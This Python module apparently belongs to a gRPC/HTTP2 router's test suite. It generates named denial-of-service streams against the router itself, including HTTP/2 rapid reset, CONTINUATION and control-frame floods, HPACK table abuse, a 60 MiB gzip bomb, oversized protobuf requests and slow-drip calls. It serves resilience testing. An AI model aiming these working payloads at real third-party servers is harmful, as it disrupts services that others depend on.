"""What an attacker sends over HTTP/2, as endless pieces for one connection: bytes, and pauses in seconds."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from itertools import count, repeat

from hpack import Encoder
from trtmesh.chassis.grpc.large_message import MessageLimits
from trtmesh.chassis.http2.frames import (
    END_HEADERS,
    END_STREAM,
    PADDED,
    ErrorCode,
    FrameType,
    Setting,
    frame,
    rst_stream,
    settings,
    window_update,
)
from trtmesh.kserve import grpc_service_pb2 as kserve
from trtmesh.router.values.request import MAX_REQUEST_TOKENS
from trtmesh.v1 import router_pb2 as router_pb

MOST_NUMBERS = MessageLimits().numbers
PIECE_FRAMES = 200
"""Frames or calls in a piece."""
BURST_SECONDS = 0.03
"""Between two requests of many prompts."""

HEALTH = "/grpc.health.v1.Health/Check"
GENERATE = "/trtmesh.v1.MeshService/Generate"
RESUME = "/trtmesh.v1.MeshService/Resume"
INFER = "/inference.GRPCInferenceService/ModelInfer"
CHAT = "/inference.GRPCInferenceService/ModelStreamInfer"

Attack = Callable[[], Iterator[bytes | float]]


def message(body: bytes, *, compressed: bool = False) -> bytes:
    return bytes((compressed,)) + len(body).to_bytes(4) + body


class Caller:
    """Opens calls: the first headers fill the HPACK table, all others are a few bytes."""

    def __init__(self, path: str, **more: str) -> None:
        self._encoder = Encoder()
        self._fields = [
            *((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a")),
            *(("te", "trailers"), ("content-type", "application/grpc")),
            *more.items(),
        ]
        self.stream = -1

    def open(self, flags: int = 0) -> bytes:
        self.stream += 2
        block = self._encoder.encode(self._fields)
        return frame(FrameType.HEADERS, END_HEADERS | flags, self.stream, block)

    def data(self, body: bytes, flags: int = 0) -> bytes:
        return frame(FrameType.DATA, flags, self.stream, body)


def calls(path: str, rest: Callable[[Caller], bytes], flags: int = 0) -> Attack:
    """Opens call after call and sends the rest of each."""

    def attack() -> Iterator[bytes]:
        caller = Caller(path)
        while True:
            yield b"".join(caller.open(flags) + rest(caller) for _ in range(PIECE_FRAMES))

    return attack


def on_one_call(path: str, rest: Callable[[Caller], bytes], first: bytes = b"") -> Attack:
    """Opens one call and repeats the rest on it."""

    def attack() -> Iterator[bytes]:
        caller = Caller(path)
        yield caller.open() + (caller.data(first) if first else b"")
        yield from repeat(rest(caller) * PIECE_FRAMES)

    return attack


def floods(flood: bytes) -> Attack:
    """Repeats frames of a connection."""
    return lambda: repeat(flood * PIECE_FRAMES)


def header_blocks(first: bytes, block: bytes) -> Attack:
    """HEADERS with a block, again and again, after `first` has filled the table."""

    def attack() -> Iterator[bytes]:
        yield frame(FrameType.HEADERS, END_HEADERS | END_STREAM, 1, first)
        for stream in count(3, 2):
            yield frame(FrameType.HEADERS, END_HEADERS | END_STREAM, stream, block)

    return attack


@cache
def _bomb() -> bytes:
    return message(zlib.compress(bytes(60 * 2**20), 9, 31), compressed=True)


def gzip_bomb() -> Iterator[bytes]:
    caller = Caller(HEALTH, **{"grpc-encoding": "gzip"})
    while True:
        yield caller.open()
        bomb = _bomb()
        for at in range(0, len(bomb), 16384):
            yield caller.data(bomb[at : at + 16384])
        yield caller.data(b"", END_STREAM)


def continuations() -> Iterator[bytes]:
    yield frame(FrameType.HEADERS, 0, 1, b"")
    yield from repeat(frame(FrameType.CONTINUATION, 0, 1) * PIECE_FRAMES)


def unfinished(caller: Caller) -> bytes:
    """Most of what the stream's window admits of a message of 60 MiB."""
    head = b"\0" + (60 * 2**20).to_bytes(4)
    return caller.data(head + bytes(16000)) + caller.data(bytes(16000)) * 2


def large_message(path: str, build: Callable[[], bytes]) -> Attack:
    """Calls with one large message each, whole."""

    def attack() -> Iterator[bytes]:
        caller, whole = Caller(path), build()
        while True:
            yield caller.open()
            for at in range(0, len(whole), 2**14):
                yield caller.data(whole[at : at + 2**14])
            yield caller.data(b"", END_STREAM)

    return attack


def bursts(prompts: int, *, deadline: str = "", reset: bool = False) -> Attack:
    """Calls with many prompts each, 33 in a second, that end at once, by a deadline or a reset, or by themselves."""

    def attack() -> Iterator[bytes | float]:
        caller = Caller(GENERATE, **({"grpc-timeout": deadline} if deadline else {}))
        body = message(_prompts(prompts, 100 if deadline or reset else 1))
        while True:
            yield caller.open() + caller.data(body, END_STREAM)
            yield BURST_SECONDS / 2
            yield rst_stream(caller.stream, ErrorCode.CANCEL) if reset else b""
            yield BURST_SECONDS / 2

    return attack


@cache
def _prompts(count: int, tokens: int) -> bytes:
    request = router_pb.GenerateRequest()
    request.config.stopping.max_tokens = tokens
    for _ in range(count):
        request.items.add().prompt.text = "x"
    return request.SerializeToString()


def byte_by_byte() -> Iterator[bytes | float]:
    """A message in frames of a byte each, some at a time."""
    caller = Caller(GENERATE)
    yield caller.open() + caller.data(b"\0" + (2**20).to_bytes(4))
    frames = caller.data(b"\0") * 20
    while True:
        yield frames
        yield 0.05


def small_calls() -> Iterator[bytes | float]:
    """Calls for one token, some at a time."""
    caller = Caller(GENERATE)
    request = router_pb.GenerateRequest()
    request.config.stopping.max_tokens = 1
    request.items.add().prompt.token_ids.ids.append(1)
    body = message(request.SerializeToString())
    while True:
        yield b"".join(caller.open() + caller.data(body, END_STREAM) for _ in range(5))
        yield 0.05


@cache
def _many_dimensions() -> bytes:
    request = kserve.ModelInferRequest(model_name="tensorrt_llm")
    request.inputs.add(name="input_ids", datatype="INT32", shape=[100] * (MOST_NUMBERS // 2))
    return message(request.SerializeToString())


@cache
def _raw_contents() -> bytes:
    request = kserve.ModelInferRequest(model_name="tensorrt_llm")
    size = 60 * 2**20
    request.inputs.add(name="input_ids", datatype="INT32", shape=[1, size // 4])
    request.raw_input_contents.append(bytes(size))
    return message(request.SerializeToString())


@cache
def _long_prompt() -> bytes:
    request = router_pb.GenerateRequest()
    request.items.add().prompt.token_ids.ids.extend([2**31] * MOST_NUMBERS)
    return message(request.SerializeToString())


def _large_config(numbers: int) -> Callable[[], bytes]:
    @cache
    def build() -> bytes:
        request = router_pb.GenerateRequest()
        request.items.add().prompt.text = "x"
        request.config.sampling.embedding_bias.extend([0.5] * numbers)
        return message(request.SerializeToString())

    return build


def _long_text(size: int, character: str = "x") -> Callable[[], bytes]:
    @cache
    def build() -> bytes:
        request = router_pb.GenerateRequest()
        request.items.add().prompt.text = character * (size // len(character.encode()))
        return message(request.SerializeToString())

    return build


@cache
def _short_resumptions() -> bytes:
    request = router_pb.ResumeRequest()
    request.request.request_id = "resumed"
    request.request.config.sampling.seed = 1
    request.request.config.stopping.max_tokens = 301
    for number in range(200):
        request.request.items.add().prompt.text = "x"
        request.received.add(batch_index=number).token_ids.extend([300 + number] * 300)
    return message(request.SerializeToString())


@cache
def _long_resumption() -> bytes:
    request = router_pb.ResumeRequest()
    request.request.request_id = "resumed"
    request.request.items.add().prompt.text = "x"
    request.request.config.sampling.seed = 1
    request.received.add().token_ids.extend([70_000] * MAX_REQUEST_TOKENS)
    return message(request.SerializeToString())


_LONG = b"\x40\x01a" + b"\x7f\x80\x1f" + b"v" * (127 + 31 * 128)
"""A literal of 4 KiB that fills the HPACK table."""

FLOODS: Mapping[str, Attack] = {
    "rapid reset": calls(
        GENERATE, lambda c: c.data(message(b"")) + rst_stream(c.stream, ErrorCode.CANCEL)
    ),
    "reset of bare headers": calls(
        GENERATE, lambda c: rst_stream(c.stream, ErrorCode.CANCEL), END_STREAM
    ),
    "resets made by the server": calls(GENERATE, lambda c: window_update(c.stream, 0)),
    "unknown methods": calls("/no.Such/Method", lambda _: b"", END_STREAM),
    "no gRPC": calls("", lambda _: b"", END_STREAM),
    "small requests": calls(HEALTH, lambda c: c.data(message(b""), END_STREAM)),
    "invalid requests": calls(GENERATE, lambda c: c.data(message(b""), END_STREAM)),
    "malformed requests": calls(GENERATE, lambda c: c.data(message(b"\xff"), END_STREAM)),
    "malformed streams": calls(CHAT, lambda c: c.data(b"\0\0", END_STREAM)),
    "idle calls": calls(CHAT, lambda _: b""),
    "idle single requests": calls(GENERATE, lambda _: b""),
    "unfinished messages": calls(GENERATE, unfinished),
    "second messages": on_one_call(
        GENERATE, lambda c: c.data(message(bytes(8000))), message(bytes(10))
    ),
    "empty messages": on_one_call(CHAT, lambda c: c.data(message(b"") * 3000)),
    "header lists of 55 KiB": header_blocks(_LONG, b"\xbe" * 14),
    "table churn": header_blocks(b"", b"\x40\x01a\x00" * 500),
    "table size updates": header_blocks(b"", b"\x20" * 16000),
    "Huffman": header_blocks(b"", Encoder().encode([("a", "e" * 25_000)], huffman=True)),
    "PING": floods(frame(FrameType.PING, 0, 0, bytes(8))),
    "SETTINGS": floods(settings({Setting.INITIAL_WINDOW_SIZE: 65535})),
    "large SETTINGS": floods(frame(FrameType.SETTINGS, 0, 0, b"\0\x63\0\0\0\1" * 2700)),
    "PRIORITY": floods(frame(FrameType.PRIORITY, 0, 1, bytes(5))),
    "WINDOW_UPDATE": floods(window_update(0, 1)),
    "WINDOW_UPDATE of a stream": on_one_call(CHAT, lambda c: window_update(c.stream, 1)),
    "unknown frames": floods(frame(99, 0, 0, b"unknown")),
    "RST_STREAM": on_one_call(CHAT, lambda c: rst_stream(c.stream, ErrorCode.CANCEL)),
    "GOAWAY": floods(frame(FrameType.GOAWAY, 0, 0, bytes(8))),
    "empty DATA": on_one_call(CHAT, lambda c: c.data(b"")),
    "padded DATA": on_one_call(CHAT, lambda c: c.data(b"\0", PADDED)),
    "DATA after END_STREAM": on_one_call(
        CHAT, lambda c: c.data(b"", END_STREAM) + c.data(b"\0", 0)
    ),
    "CONTINUATION": continuations,
    "gzip bomb": gzip_bomb,
    "dimensions": large_message(INFER, _many_dimensions),
    "long prompts": large_message(GENERATE, _long_prompt),
    "large configs": large_message(GENERATE, _large_config(MOST_NUMBERS)),
    "60 MiB of numbers": large_message(GENERATE, _large_config(15 * 2**20)),
    "texts of 15 MiB": large_message(GENERATE, _long_text(15 * 2**20)),
    "texts of 60 MiB": large_message(GENERATE, _long_text(60 * 2**20)),
    "raw contents of 60 MiB": large_message(INFER, _raw_contents),
    "long resumptions": large_message(RESUME, _long_resumption),
    "resumptions of 200 prompts": large_message(RESUME, _short_resumptions),
    "4 MB of emoji": large_message(GENERATE, _long_text(4_000_000, "\U0001f600")),
    "1 MB of emoji": large_message(GENERATE, _long_text(1_000_000, "\U0001f600")),
    "1,024 prompts": bursts(1024),
    "1,024 prompts, deadline of 5 ms": bursts(1024, deadline="5m"),
    "64 prompts, deadline of 5 ms": bursts(64, deadline="5m"),
    "1,024 prompts, reset": bursts(1024, reset=True),
}
"""Attacks at the speed of the network, or as fast as they say, by name."""

CROWDS: Mapping[str, Attack] = {
    "DATA of a byte": byte_by_byte,
    "calls for a token": small_calls,
}
"""Attacks from hundreds of connections, by name."""

CALMED = frozenset(
    (
        *("rapid reset", "reset of bare headers", "resets made by the server", "unknown methods"),
        *("invalid requests", "PING", "SETTINGS", "large SETTINGS", "PRIORITY", "WINDOW_UPDATE"),
        *("WINDOW_UPDATE of a stream", "unknown frames", "RST_STREAM", "GOAWAY", "empty DATA"),
        *("padded DATA", "CONTINUATION"),
    )
)
"""Attacks that are good for nothing else: a connection that goes on ends with ENHANCE_YOUR_CALM. All others are
slowed."""

USUAL = (
    *("rapid reset", "unknown methods", "idle calls", "unfinished messages", "second messages"),
    *("table churn", "Huffman", "PING", "gzip bomb", "60 MiB of numbers"),
)
"""One attack of each bound, for every run of the tests."""
